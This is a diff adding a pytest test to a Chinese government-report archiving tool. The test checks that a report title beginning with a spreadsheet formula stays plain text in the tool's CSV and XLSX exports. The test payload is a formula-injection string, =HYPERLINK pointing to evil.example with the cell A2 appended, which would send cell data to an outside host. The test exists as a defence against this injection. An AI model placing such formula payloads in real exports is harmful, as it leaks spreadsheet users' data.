@@ -430,3 +430,57 @@ def test_no_documentation_page_loads_from_a_cdn(base_url):
     status, body = get_with_host(base_url, urlsplit(base_url).netloc, "/docs")
     assert status == 200 and b"/docs-assets/swagger-ui-bundle.js" in body and b"cdn." not in body
     assert get_with_host(base_url, urlsplit(base_url).netloc, "/redoc")[0] == 404
+
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")示例市2023年政府信息公开工作年度报告'
+
+
+def test_a_title_that_starts_like_a_formula_stays_text_in_every_spreadsheet(tmp_path):
+    """A page's own title is the author's text: in the dashboard's CSV and XLSX and in `xxgk status`'s XLSX it must
+    open as that text, not as a formula that links out (or computes) in the reader's spreadsheet."""
+    import csv
+    import io
+
+    from fastapi.testclient import TestClient
+    from openpyxl import load_workbook
+
+    from cli.main import main
+    from web.app import create_app
+
+    config = Config.from_env({}, data_dir=tmp_path / "data")
+    archive = Archive.open(config, durability="os")
+    with archive.catalog.session() as session:
+        queries.upsert_agency(session, "formula", "示例市卫生健康委员会", level="department")
+    body = (f"<html><head><meta name='ArticleTitle' content='{FORMULA_TITLE}'>"
+            "<meta name='PubDate' content='2024-01-20 10:00'></head><body><h1>年度报告</h1><p>一、总体情况</p>"
+            "<p>本机关2023年收到政府信息公开申请2件。</p></body></html>").encode()
+    url = "http://formula.gov.cn/nb/2023.html"
+    capture = archive.record_fetch(url, "GET", REQUEST_HEADERS, 200, "OK",
+                                   [("Content-Type", "text/html; charset=utf-8")], body,
+                                   fetched_at=datetime(2024, 1, 25, 2, 0, tzinfo=timezone.utc), agency_id="formula")
+    record = parse_document(body, FetchContext(url=url, content_type="text/html; charset=utf-8"))
+    assert record.is_report and record.title.startswith("=HYPERLINK("), (record.title, record.kind_reason)
+    with archive.catalog.session() as session:
+        queries.add_report(session, capture.id, record, agency_id="formula")
+    archive.finish("finished")
+    output = tmp_path / "status.xlsx"
+    assert main(["--data-dir", str(config.data_dir), "status", "--year", "2023", "--as-of", "2024-06-01",
+                 "--format", "xlsx", "--output", str(output)]) == 0
+
+    def cells_of(workbook_bytes_or_path):
+        sheet = load_workbook(workbook_bytes_or_path).worksheets[0]
+        rows = list(sheet.iter_rows())
+        column = [cell.value for cell in rows[0]].index("标题")
+        return [(row[column].value, row[column].data_type) for row in rows[1:]]
+
+    assert cells_of(output) == [(record.title, "s")]
+    with TestClient(create_app(config)) as client:
+        assert main(["--data-dir", str(config.data_dir), "status", "--year", "2023"]) == 0   # stores the verdicts
+        xlsx = client.get("/export.xlsx", params={"year": "2023"})
+        assert xlsx.status_code == 200
+        assert cells_of(io.BytesIO(xlsx.content)) == [(record.title, "s")]
+        exported = list(csv.DictReader(io.StringIO(client.get("/export.csv", params={"year": "2023"})
+                                                   .content.decode("utf-8-sig"))))
+        assert [row["标题"] for row in exported] == ["'" + record.title]
+        # the JSON keeps the text as it is: no spreadsheet reads it
+        assert client.get("/export.json", params={"year": "2023"}).json()["rows"][0]["title"] == record.title
